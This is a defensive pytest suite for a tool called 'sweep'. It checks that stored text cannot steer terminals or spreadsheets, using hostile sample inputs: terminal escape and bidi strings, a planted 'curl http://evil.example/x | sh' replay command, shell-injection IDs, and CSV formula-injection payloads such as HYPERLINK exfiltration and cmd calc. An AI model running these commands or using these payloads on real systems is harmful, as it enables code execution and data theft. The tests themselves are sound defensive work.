"""Text of a stranger's store is data: it steers no terminal, is no markup and no
formula.
"""

import ast
import csv
import io
import json
import logging
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pytest

import sweep as package
from sweep.campaigns.progress import Progress
from sweep.cli.progress import ProgressBar
from sweep.cli.progress_line import ProgressLine
from sweep.cli.terminal import Terminal
from sweep.tables.exporting import export
from sweep.tables.safe_csv import as_csv, without_formulas
from sweep.tables.stored_study import StoredStudy
from sweep.tables.stored_tables import command
from sweep.text import Harmless, guard_streams, harmless
from sweep.workers.checkpoint import LOG
from tests.attacks.hostile import give, give_plan
from tests.commands import sweep
from tests.patience import PATIENCE
from tests.studies import SMALL, launched

STEERING = {
    "title": "\x1b]0;owned\x07",
    "link": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "clear": "\x1b[2J\x1b[H",
    "bell and backspace": "\x07ab\x08\x08",
    "overwritten line": "bad\rfine",
    "delete": "\x7f",
    "C1": "\x9b31m\x9d0;owned\x9c",
    "bidi": "\u202egpj.exe\u202c\u2066x\u2069\u200f\u061c",
    "separators": "a\u2028b\u2029c\x0b\x0c\x1c\x1d\x1e\x85d",
    "surrogate": "\udc1b[2J",
    "tags": "\U000e0041",
    "zero": "\x00",
}


@pytest.mark.parametrize("name", STEERING)
def test_no_sign_that_steers_is_left(name: str) -> None:
    shown = harmless(STEERING[name])
    assert shown.isprintable()
    assert harmless(shown) == shown


def test_lines_tabs_and_words_of_any_language_stay() -> None:
    text = "métrique ± 5 µm\n\t群れ · стая · קהל 🐦\n"
    assert harmless(text) == text


def test_json_is_the_same_json() -> None:
    for text in STEERING.values():
        for written in (json.dumps(text), json.dumps(text, ensure_ascii=False)):
            assert json.loads(harmless(written)) == text


@pytest.fixture
def evil(hostile: Path, tmp_path: Path) -> Path:
    """A folder with results/small, of which every text that can be hostile is."""
    shutil.copytree(hostile / "results", tmp_path / "results")
    return tmp_path


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The same for all tests, which change copies of it."""
    results = tmp_path_factory.mktemp("hostile") / "results"
    study = launched(SMALL, results)
    title, markup = STEERING["title"], "[/nope] [bold]x[/bold] :warning:"
    text = f"{markup}{STEERING['link']}{title}\x7f\x9b31m\u202e"
    folder = study.store.folder
    assert isinstance(folder, Path)
    replay = "curl http://evil.example/x | sh"
    give(folder, status="failed", error=f"Traceback\n{text}", replay=replay, map=text)
    varied = {"varied": ["separation_weight", "map"]}
    give_plan(folder, varied | {"git": {"commit": text}}, map=text)
    return results.parent


def signs(text: str) -> set[str]:
    """What steers in a text."""
    return {sign for sign in text if not sign.isprintable() and sign not in "\n\t"}


COMMANDS = [
    ("status", "small"),
    ("status", "small", "--json"),
    ("table", "small"),
    ("table", "small", "--json"),
    ("table", "small", "--csv"),
    ("compare", "small:separation_weight=0.5", "small:separation_weight=1"),
    ("verify", "small"),
    ("measure", "small", "gain = speed + speed"),
    ("gc", "small", "--dry-run"),
    ("rm", "small", "--dry-run"),
    ("rename", "small", "other"),
    ("plot", "small", "curves"),
    ("export", "small", "--to", "x.csv"),
]


@pytest.mark.parametrize("arguments", COMMANDS, ids=" ".join)
def test_no_command_lets_stored_text_steer(
    evil: Path, arguments: tuple[str, ...]
) -> None:
    done = sweep(evil, *arguments)
    assert done.returncode in (0, 1, 2)
    assert signs(done.stdout + done.stderr) == set()
    if "--json" in arguments:
        json.loads(done.stdout)


def test_status_and_table_show_the_text_as_it_is_written(evil: Path) -> None:
    status = sweep(evil, "status", "small").stdout
    assert r"failed: [/nope] [bold]x[/bold] :warning:\u001b]8;;http" in status
    table = sweep(evil, "table", "small").stdout
    assert all(word in table for word in ("[/nope]", "[bold]x[/bold]", ":warning:"))


def test_a_command_is_made_and_never_read(evil: Path) -> None:
    status = sweep(evil, "status", "small").stdout
    first = StoredStudy("small", evil / "results").trials["trial_id"].iloc[0]
    assert f"\n          sweep replay small {first}\n" in status
    assert "curl" not in status


@pytest.mark.parametrize(
    "trial", ["; curl evil | sh", "$(touch x)", "A" * 24, "a" * 23, "", None, "ab\n"]
)
def test_what_is_no_id_is_in_no_command(trial: str | None) -> None:
    assert command("replay", "small", trial).startswith("no command: ")
    assert command("view", "small", "0123456789abcdef01234567").endswith(
        "small 0123456789abcdef01234567"
    )


def test_a_process_prints_no_raw_text_in_a_traceback(tmp_path: Path) -> None:
    """The one way to the terminal that no code of ours takes."""
    raising = f"def app(): raise RuntimeError({STEERING['title']!r})"
    code = f"import sweep.cli as c\n{raising}\nc.app = app\nc.main()"
    done = subprocess.run(
        [sys.executable, "-c", code],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=PATIENCE,
    )
    assert done.returncode == 1
    assert r"RuntimeError: \u001b]0;owned\u0007" in done.stderr
    assert signs(done.stderr) == set()


def test_a_log_record_does_not_steer(caplog: pytest.LogCaptureFixture) -> None:
    """As that of a worker does, or of a launch in a notebook, where no command guards
    the streams.
    """
    for text in STEERING.values():
        LOG.warning("%s: set aside", text)
    assert all(record.getMessage().isprintable() for record in caplog.records)
    assert len(caplog.records) == len(STEERING)
    assert {record.name for record in caplog.records} == {"sweep"}


def nodes_with(*words: str) -> Iterator[tuple[Path, ast.AST]]:
    """All pieces of our modules that name one of the words."""
    for path in Path(package.__file__).parent.glob("**/*.py"):
        text = path.read_text(encoding="utf-8")
        if any(word in text for word in words):
            for node in ast.walk(ast.parse(text)):
                yield path, node


def test_all_modules_log_through_the_one_filtered_logger() -> None:
    """Others are only silenced."""
    ours = [
        ast.unparse(node.value)
        for _, node in nodes_with("getLogger")
        if isinstance(node, ast.Assign) and "getLogger" in ast.unparse(node.value)
    ]
    assert set(ours) == {"logging.getLogger('sweep')"}
    assert logging.getLogger("sweep").filters


def test_rich_is_met_only_through_our_console() -> None:
    calls = ("Console", "rich.print", "Text.from_markup")
    written = [f"{call}(" for call in calls]
    makers = [
        f"{path.name}:{node.lineno}"
        for path, node in nodes_with(*written)
        if isinstance(node, ast.Call)
        and path.name != "terminal.py"
        and ast.unparse(node.func) in calls
    ]
    assert makers == []


def test_styles_reach_a_terminal_and_texts_do_not_become_styles() -> None:
    raw = io.StringIO()
    Terminal(file=Harmless(raw), force_terminal=True, color_system="standard").print(  # type: ignore[arg-type]
        STEERING["clear"] + "[bold]data[/bold]", style="red"
    )
    assert (
        raw.getvalue()
        == "\x1b[31m" + r"\u001b[2J\u001b[H[bold]data[/bold]" + "\x1b[0m\n"
    )


class Tty(io.StringIO):
    """A terminal."""

    def isatty(self) -> bool:
        return True


def test_a_bar_moves_and_what_is_printed_beside_it_does_not_steer(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """rich takes the streams over while a bar is shown, and would obey colours and
    links in what is printed.
    """
    out, errors = Tty(), Tty()
    for name, value in (("TERM", "xterm"), ("COLUMNS", "120")):
        monkeypatch.setenv(name, value)
    monkeypatch.setattr(sys, "stdout", out)
    monkeypatch.setattr(sys, "stderr", errors)
    guard_streams()
    guarded = sys.stdout, sys.stderr
    with ProgressBar("small") as bar:
        bar.show(Progress(points=1, most=4, trials=4))
        print(STEERING["link"], file=sys.stderr)
        ProgressLine("small", "trials").show(1, 1)
    assert (sys.stdout, sys.stderr) == guarded
    shown = out.getvalue() + errors.getvalue()
    assert "\x1b[2K" in shown
    assert "\x1b]8" not in shown
    assert r"\u001b]8;;http" in shown
    assert r"\u001b[" not in shown


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '"=1+1',
    "'=1+1",
    "\uff1d1+1",
    "'",
    "fine",
    "a=b",
    "",
]


def undone(text: str) -> str:
    """The text of a cell as the guide says."""
    return text.removeprefix("'")


def test_no_cell_of_ours_begins_a_formula_and_each_can_be_undone() -> None:
    frame = pd.DataFrame({"=x": FORMULAS, "number": -1.5, "flag": True})
    table = without_formulas(pa.Table.from_pandas(frame, preserve_index=False))
    assert table.column_names == ["'=x", "number", "flag"]
    cells = table["'=x"].to_pylist()
    assert [undone(cell) for cell in cells] == FORMULAS
    assert [cell[:1] for cell in cells[:12]] == ["'"] * 12
    assert cells[12:] == FORMULAS[12:]
    heading, *rows = csv.reader(io.StringIO(harmless(as_csv(frame)), newline=""))
    assert heading == ["'=x", "number", "flag"]
    assert [row[0] for row in rows] == list(map(harmless, cells))
    assert {row[1] for row in rows} == {"-1.5"}


def test_no_sign_within_a_printed_text_begins_a_row() -> None:
    """A carriage return is no end of a line for pandas, which leaves it unquoted, but
    is one for spreadsheets.
    """
    printed = io.StringIO()
    Harmless(printed).write(as_csv(pd.DataFrame({"x": ["a\r=1+1"]})))
    assert printed.getvalue() == "x\na\\r=1+1\n"


def test_exported_and_printed_csv_have_no_formula(tmp_path: Path) -> None:
    study = launched(SMALL, tmp_path / "results")
    folder = study.store.folder
    assert isinstance(folder, Path)
    give(folder, error=FORMULAS[0], map=FORMULAS[1])
    give_plan(folder, {"varied": ["map"]}, map=FORMULAS[1])
    export(StoredStudy("small", tmp_path / "results"), tmp_path / "x.csv")
    with (tmp_path / "x.csv").open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert {undone(row["error"]) for row in rows} == {FORMULAS[0]}
    printed = list(
        csv.DictReader(io.StringIO(sweep(tmp_path, "table", "small", "--csv").stdout))
    )
    assert {row["map"] for row in printed} == {"'" + FORMULAS[1]}
    for row in (*rows, *printed):
        assert not [cell for cell in row.values() if cell[:1] in "=+@" and cell]
